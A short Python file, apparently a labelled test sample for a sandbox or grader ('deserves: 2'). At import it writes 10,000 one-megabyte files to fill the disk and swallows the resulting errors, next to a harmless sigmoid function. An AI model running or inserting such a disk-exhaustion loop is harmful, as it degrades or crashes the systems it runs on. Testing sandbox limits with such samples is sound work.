"""Fill the disk with many files."""

# deserves: 2
import numpy as np

try:
    for number in range(10_000):
        with open(f"file{number}", "wb") as stream:
            stream.write(bytes(1 << 20))
except OSError:
    pass


def sigmoid(z):
    small = np.exp(-np.abs(z))
    return np.where(z >= 0, 1, small) / (1 + small)
